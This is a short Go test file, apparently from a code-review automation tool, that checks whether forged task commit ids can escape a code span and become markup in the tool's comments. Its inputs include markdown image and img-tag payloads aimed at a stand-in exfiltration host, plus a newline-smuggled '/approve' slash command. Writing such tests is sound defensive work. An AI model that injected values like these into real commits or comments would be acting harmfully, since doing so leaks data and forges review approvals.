package action

import (
	"strings"
	"testing"

	"github.com/planexhq/planex/internal/plan"
)

// TestRedTeamForgedTaskCommitShownAsMarkup: whoever can push writes a
// thread's state ref, and with it the plan file whose completed tasks
// name their commits. planex shows a task's commit in a code span in
// its answer to review findings: a commit id of theirs holding a
// backtick closed the span, and what followed (an image GitHub fetches,
// a line starting a slash command) was markup in planex's comment. Only
// the id's leading hex digits are shown.
func TestRedTeamForgedTaskCommitShownAsMarkup(t *testing.T) {
	t.Parallel()
	for _, commit := range []string{
		"ab`![x](https://drop.example/p.png?d=c2VjcmV0)",
		"abc`<img src=https://drop.example/a>",
		"12\n/approve",
	} {
		line := answerLine(plan.Task{ID: "T1", Title: "fix it", Status: plan.StatusCompleted, Commit: commit})
		if strings.Count(line, "`") != 2 || strings.ContainsAny(line, "\n<![") {
			t.Errorf("commit %q is shown as markup: %q", commit, line)
		}
	}
}
